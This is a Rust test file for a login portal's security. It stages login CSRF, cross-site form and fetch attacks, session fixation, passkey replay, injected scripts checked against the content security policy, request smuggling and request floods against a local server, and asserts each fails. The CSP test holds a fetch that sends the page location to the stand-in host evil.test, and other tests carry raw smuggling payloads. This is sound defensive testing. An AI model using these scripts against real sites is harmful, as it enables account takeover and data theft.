//! Attacks on the portal and its visitors, in the browser.

use std::io::{Read as _, Write as _};
use std::net::{Shutdown, TcpStream};
use std::time::Duration;

use autharmor::ApiVersion::V4;
use autharmor::emulator::Emulator;
use autharmor_test_support::browser::{serve_empty_page, wait_for};
use serde_json::{Value, json};

use crate::portal::Portal;
use crate::site::{ADA, EVE, Site, Visitor, serve, server};
use crate::web::network;

const USED: &str = "asked for in another browser";
const GONE: &str = "it began in another browser";

/// A site with an account for the attacker, too.
fn site_with_eve() -> Site {
    let site = Site::start(V4);
    site.emulator.add_user(EVE).unwrap();
    site
}

/// The user of a visitor's session, as the server sees it.
fn user(visitor: &Visitor) -> String {
    let script = "const done = arguments[0];
        fetch('/account', { method: 'POST', body: '{}' })
            .then(async (response) => done((await response.json()).name ?? ''), done);";
    visitor
        .0
        .run_async(script, &[])
        .as_str()
        .unwrap()
        .to_owned()
}

/// Login CSRF: the attacker's link, in the victim's browser, would sign the victim
/// in as the attacker.
pub(crate) fn a_link_of_an_attacker_signs_nobody_in() {
    let site = site_with_eve();
    let eve = site.open("/");
    eve.ask_for_link(EVE);
    let link = site.opened_link();
    // A victim without a session, one who has begun, and one who is signed in.
    let stranger = site.open("/");
    let begun = site.open("/");
    begun.ask_for_link(ADA);
    let own_link = site.opened_link();
    let ada = site.open_as_ada();
    for (victim, told, name) in [
        (&stranger, USED, ""),
        (&begun, "This link is too old", ""),
        (&ada, USED, ADA),
    ] {
        victim.visit_url(&link);
        victim.press("Continue");
        victim.is_told(told);
        assert_eq!(user(victim), name);
    }
    // What the victim has begun goes on.
    begun.visit_url(&own_link);
    begun.press("Continue");
    begun.sees_account_of(ADA);
}

/// Posts by a form and by scripts, and tries to read and to frame the portal.
const OTHER_SITE: &str = r"
    const [base, done] = arguments;
    const attack = async () => {
        const readable = [];
        const bodies = {
            '/phone': { name: 'ada@example.com' }, '/link': { name: 'eve@example.com' },
            '/passkey': { name: '' }, '/register': { name: 'new@example.com' },
            '/continue': { id: 'link', input: '' }, '/log-out': {}, '/account': {},
            '/account/phone': {}, '/account/passkey': {}, '/account/disable': { credential: 'x' },
        };
        for (const [path, value] of Object.entries(bodies)) {
            const body = JSON.stringify(value);
            for (const mode of ['cors', 'no-cors']) {
                for (const type of ['text/plain', 'application/json']) {
                    const request = { method: 'POST', mode, body, credentials: 'include',
                        headers: { 'Content-Type': type } };
                    const got = await fetch(base + path, request).catch(() => null);
                    if (got && got.type !== 'opaque') readable.push(path + ' ' + await got.text());
                }
            }
            navigator.sendBeacon(base + path, body);
            const form = document.createElement('form');
            Object.assign(form, { method: 'POST', action: base + path, enctype: 'text/plain', target: 'x' });
            const field = document.createElement('input');
            field.name = body.slice(0, -1) + (body === '{}' ? '' : ',') + '\x22x\x22:\x22';
            field.value = '\x22}';
            form.append(field);
            const frame = document.createElement('iframe');
            frame.name = 'x';
            document.body.append(frame, form);
            form.submit();
            await new Promise((loaded) => { frame.onload = loaded; setTimeout(loaded, 20000); });
            frame.remove();
        }
        const frame = document.createElement('iframe');
        frame.src = base + '/account';
        document.body.append(frame);
        await new Promise((loaded) => { frame.onload = loaded; setTimeout(loaded, 20000); });
        return readable;
    };
    attack().then(done, (error) => done(['FAILED: ' + error]));
";

pub(crate) fn another_site_posts_no_form_and_reads_nothing() {
    let site = Site::start(V4);
    let ada = site.open_as_ada();
    let before = site.emulator.request_count();
    let port = serve_empty_page();
    // Another port of the same host is another origin, but not another site: the
    // browser sends the cookie.
    for host in ["evil.test", "localhost"] {
        ada.visit_url(&format!("http://{host}:{port}/"));
        let readable = ada.0.run_async(OTHER_SITE, &[&site.origin]);
        assert_eq!(readable, json!([]), "{host}");
        ada.0.wait_for_refused_frame("iframe");
    }
    assert_eq!(site.emulator.request_count(), before);
    ada.visit(&site, "/account");
    ada.sees_account_of(ADA);
}

/// Session fixation: the attacker knows the id of the session in which the victim
/// signs in.
pub(crate) fn a_planted_session_is_of_no_use() {
    let site = Site::start(V4);
    let eve = site.open("/");
    eve.ask_phone(EVE);
    let planted = eve.session().unwrap()["value"].clone();
    let ada = site.open("/");
    // An id that the server made, and one that it did not.
    for id in [planted, json!("made-up-by-the-attacker")] {
        ada.0.post(
            "cookie",
            &json!({"cookie": {"name": "session", "value": id}}),
        );
        ada.ask_for_link(ADA);
        ada.visit_url(&site.opened_link());
        ada.press("Continue");
        ada.sees_account_of(ADA);
        assert_ne!(ada.session().unwrap()["value"], id);
        eve.0.post(
            "cookie",
            &json!({"cookie": {"name": "session", "value": id}}),
        );
        assert_eq!(user(&eve), "");
        ada.log_out();
    }
    // After logging out the id is of no use either.
    let ada = site.open_as_ada();
    let old = ada.session().unwrap()["value"].clone();
    ada.log_out();
    eve.0.post(
        "cookie",
        &json!({"cookie": {"name": "session", "value": old}}),
    );
    assert_eq!(user(&eve), "");
}

/// Records what the page sends, across pages.
const RECORD: &str = "const fetch = window.fetch;
    window.fetch = (path, request) => {
        localStorage.setItem('sent ' + path, request?.body);
        return fetch(path, request);
    };";

/// Returns the recorded JSON with which the page goes on.
fn sent_to_continue(visitor: &Visitor) -> String {
    let script = "return localStorage.getItem('sent /continue')";
    wait_for("a request", || {
        visitor.0.run(script, &[]).as_str().map(str::to_owned)
    })
}

pub(crate) fn a_passkey_cannot_be_replayed() {
    let site = Site::start(V4);
    let ada = site.open_as_ada();
    ada.add_passkey();
    ada.log_out();
    ada.0.run(RECORD, &[]);
    ada.press("Use a passkey");
    ada.sees_account_of(ADA);
    let sent: Value = serde_json::from_str(&sent_to_continue(&ada)).unwrap();
    assert!(sent["input"].as_str().unwrap().contains("signature"));
    ada.log_out();
    // In the same browser, in another, and in a sign-in that another has begun.
    let eve = site.open("/");
    for visitor in [&ada, &eve] {
        let (status, text) = visitor.posts("/continue", &sent);
        assert!(status == 409 && text.contains(GONE), "{status} {text}");
    }
    eve.0.run(RECORD, &[]);
    let stolen = sent["input"].as_str().unwrap();
    let instead = "PublicKeyCredential.prototype.toJSON = null;
        navigator.credentials.get = async () => JSON.parse(arguments[0])";
    eve.0.run(instead, &[stolen]);
    eve.press("Use a passkey");
    eve.is_told("That did not work.");
    assert_eq!(user(&eve), "");
}

pub(crate) fn what_another_browser_began_cannot_be_continued() {
    let site = Site::start(V4);
    let ada = site.open("/");
    ada.0.run(RECORD, &[]);
    ada.ask_phone(ADA);
    let sent = sent_to_continue(&ada);
    let sent: Value = serde_json::from_str(&sent).unwrap();
    let eve = site.open("/");
    // Also while she has begun something herself.
    for begins in [false, true] {
        if begins {
            eve.ask_phone(EVE);
        }
        let (status, text) = eve.posts("/continue", &sent);
        assert!(status == 409 && text.contains(GONE), "{status} {text}");
    }
    site.respond_on_phone(true);
    ada.sees_account_of(ADA);
    assert_eq!(eve.posts("/continue", &sent).0, 409);
    assert_eq!(user(&eve), "");
}

/// A name without an account gets the request of nobody, which anybody can approve.
pub(crate) fn a_request_without_a_user_signs_nobody_in() {
    let site = Site::start(V4);
    let eve = site.open("/");
    eve.ask_phone(EVE);
    let request = site.emulator.pending_requests().pop().unwrap();
    site.emulator
        .approve_as(request.auth_request_id, ADA)
        .unwrap();
    eve.is_told("That did not work.");
    assert_eq!(user(&eve), "");

    let ada = site.open_as_ada();
    ada.add_passkey();
    ada.log_out();
    ada.0.fill("#name", EVE);
    ada.press("Use a passkey");
    ada.is_told("That did not work.");
    assert_eq!(user(&ada), "");
}

pub(crate) fn scripts_cannot_read_the_session() {
    let site = Site::start(V4);
    let ada = site.open_as_ada();
    assert_eq!(ada.0.run("return document.cookie", &[]), "");
    let cookie = ada.session().unwrap();
    assert_eq!(
        (&cookie["httpOnly"], &cookie["sameSite"]),
        (&json!(true), &json!("Lax"))
    );
    // The token of a link is not kept in the history, and goes to no other host.
    let script = "const done = arguments[0]; fetch(location).then((response) =>
        done(['referrer-policy', 'cache-control'].map((name) => response.headers.get(name))));";
    assert_eq!(
        ada.0.run_async(script, &[]),
        json!(["no-referrer", "no-store"])
    );
}

/// Through a proxy with TLS, the portal's address is of `https`.
pub(crate) fn with_tls_the_session_is_sent_over_tls_alone() {
    const ORIGIN: &str = "https://login.example";
    let emulator = Emulator::builder().plain_http().start().unwrap();
    let client = emulator.client_builder().build().unwrap();
    let (server, port) = server();
    serve(server, Portal::new(client, ORIGIN, "example"));
    let body = r#"{"name":""}"#;
    let request = format!(
        "POST /passkey HTTP/1.1\r\nHost: login.example\r\nOrigin: {ORIGIN}\r\n\
         Connection: close\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    let response = send(port, &request);
    let is_cookie = |line: &&str| line.to_ascii_lowercase().starts_with("set-cookie");
    let mut cookies = response.lines().filter(is_cookie);
    let cookie = cookies.next().unwrap();
    // With this name browsers take it from this host alone, for all paths.
    assert!(cookie[10..].starts_with(": __Host-session="), "{cookie}");
    let (_, attributes) = cookie.split_once("; ").unwrap();
    assert_eq!(attributes, "Path=/; HttpOnly; SameSite=Lax; Secure");
    assert_eq!(cookies.next(), None);
}

/// The policy forbids what an injected text could do.
pub(crate) fn no_script_of_a_page_runs() {
    let site = Site::start(V4);
    let ada = site.open("/");
    let script = r#"
        const done = arguments[0];
        const refused = new Set();
        addEventListener("securitypolicyviolation", (event) => {
            refused.add(event.effectiveDirective);
            if (refused.size === 5) done([...refused].sort());
        });
        const add = (tag, values) => document.body.append(
            Object.assign(document.createElement(tag), values));
        try { document.body.innerHTML += "<b>markup</b>"; } catch { }
        try { document.body.setAttribute("onclick", "document.title = 'owned'"); } catch { }
        add("img", { src: "http://evil.test/pixel" });
        add("iframe", { src: "http://evil.test/" });
        add("style", { textContent: "body { display: none }" });
        fetch("http://evil.test/" + location).catch(() => {});
        setTimeout(() => done([...refused].sort()), 60000);
    "#;
    let refused = ada.0.run_async(script, &[]);
    let expected = [
        "connect-src",
        "frame-src",
        "img-src",
        "require-trusted-types-for",
        "style-src-elem",
    ];
    assert_eq!(refused, json!(expected));
    let policy = "const done = arguments[0]; fetch('/').then((response) =>
        done(response.headers.get('content-security-policy')))";
    let policy = ada.0.run_async(policy, &[]);
    let scripts = "default-src 'none'; script-src 'self'; ";
    assert!(policy.as_str().unwrap().starts_with(scripts), "{policy}");
}

/// Sends bytes and no more, and returns what comes back.
fn send(port: u16, bytes: &str) -> String {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
    stream.write_all(bytes.as_bytes()).unwrap();
    stream.shutdown(Shutdown::Write).unwrap();
    let mut response = String::new();
    // The server may close before it has read all.
    let _ = stream.read_to_string(&mut response);
    response
}

/// The length that a request announces is not a length to reserve.
pub(crate) fn an_announced_length_costs_no_memory() {
    let site = Site::start(V4);
    let port = site.port();
    let origin = format!("Host: localhost\r\nOrigin: {}", site.origin);
    for length in [
        "Content-Length: 70000000000000",
        "Transfer-Encoding: chunked",
    ] {
        for line in ["GET /", "POST /passkey"] {
            let head = format!("{line} HTTP/1.1\r\n{origin}\r\n{length}\r\n\r\n");
            let response = send(port, &(head + "3fffffffffff\r\n{}"));
            assert!(
                response.starts_with("HTTP/1.1 200"),
                "{line} {length} {response}"
            );
        }
    }
}

/// A body that nobody has read is not taken for the next request.
pub(crate) fn what_is_left_unread_is_no_request() {
    let site = Site::start(V4);
    let port = site.port();
    let smuggled = "GET /portal.css HTTP/1.1\r\nHost: localhost\r\n\r\n";
    let length = smuggled.len() + 2000;
    for length in [
        format!("Content-Length: {length}"),
        "Transfer-Encoding: chunked".to_owned(),
    ] {
        let head = format!("POST /passkey HTTP/1.1\r\nHost: localhost\r\n{length}\r\n\r\n");
        let response = send(port, &(head + smuggled + &" ".repeat(2000)));
        assert_eq!(response.matches("HTTP/1.1 ").count(), 1, "{response}");
    }
}

/// Strangers who begin again and again do not log anybody out.
pub(crate) fn a_flood_of_sessions_logs_nobody_out() {
    let site = Site::with(V4, |builder| builder, |portal| portal.sessions.0 = 3);
    let ada = site.open_as_ada();
    // Also in the last of her eight hours.
    site.age_sessions(Duration::from_secs(7 * 3600));
    let eve = site.open("/");
    let script = "const done = arguments[0];
        const request = { method: 'POST', body: '{\"name\":\"\"}', credentials: 'omit' };
        const all = Array.from({ length: 20 }, () => fetch('/passkey', request));
        Promise.all(all).then((replies) => done(replies.map((one) => one.status)), done);";
    assert_eq!(eve.0.run_async(script, &[]), json!(vec![200; 20]));
    assert_eq!(user(&ada), ADA);
}

/// Refusing an attempt takes no time, or many refused ones would occupy the server.
pub(crate) fn a_refused_attempt_does_not_wait() {
    const PACE: Duration = Duration::from_secs(10);
    let site = Site::with(V4, |builder| builder, |portal| portal.pace = PACE);
    let eve = site.open("/");
    let script = "const done = arguments[0];
        const request = { method: 'POST', body: '{\"name\":\"ada@example.com\"}', credentials: 'omit' };
        const all = Array.from({ length: 6 }, () => fetch('/phone', request));
        Promise.race(all).then((first) => first.status).then((status) =>
            Promise.all(all).then((replies) => done([status, ...replies.map((one) => one.status).sort()])));";
    let replies = eve.0.run_async(script, &[]);
    assert_eq!(replies, json!([429, 200, 200, 200, 200, 200, 429]));
}

/// The second of two requests finds that the first has completed the sign-in.
pub(crate) fn two_requests_at_once_complete_one_sign_in() {
    let site = Site::start(V4);
    let ada = site.open("/");
    ada.0.run(RECORD, &[]);
    ada.ask_phone(ADA);
    let sent = sent_to_continue(&ada);
    // The page itself polls no more.
    ada.visit(&site, "/register");
    site.respond_on_phone(true);
    let script = "const [body, done] = arguments;
        const once = () => fetch('/continue', { method: 'POST', body });
        Promise.all([once(), once(), once()])
            .then((replies) => done(replies.map((one) => one.status).sort()), done);";
    assert_eq!(ada.0.run_async(script, &[&sent]), json!([200, 409, 409]));
    assert_eq!(user(&ada), ADA);
}

pub(crate) fn a_network_is_limited_and_not_an_address() {
    let network = |address: &str| network(address.parse().unwrap());
    assert_eq!(network("2001:db8:1:2::1"), network("2001:db8:1:2:3:4:5:6"));
    assert_ne!(network("2001:db8:1:2::1"), network("2001:db8:1:3::1"));
    assert_eq!(network("::ffff:192.0.2.1"), network("192.0.2.1"));
    assert_ne!(network("::ffff:192.0.2.1"), network("::ffff:192.0.2.2"));
}

/// One visitor's limit is not that of all who come through the proxy.
pub(crate) fn behind_a_proxy_its_header_says_who_sends() {
    let site = Site::with(
        V4,
        |builder| builder,
        |portal| portal.proxy_header = Some("X-Real-IP".to_owned()),
    );
    let begin = |address: &str| {
        let origin = &site.origin;
        let request = format!(
            "POST /passkey HTTP/1.1\r\nHost: localhost\r\nOrigin: {origin}\r\n\
             X-Real-IP: {address}\r\nContent-Length: 2\r\n\r\n{{}}"
        );
        send(site.port(), &request)[9..12].to_owned()
    };
    let statuses: Vec<_> = (0..61).map(|_| begin("192.0.2.1")).collect();
    assert_eq!(statuses[..60], ["200"; 60]);
    assert_eq!(statuses[60], "429");
    assert_eq!(begin("192.0.2.2"), "200");
}
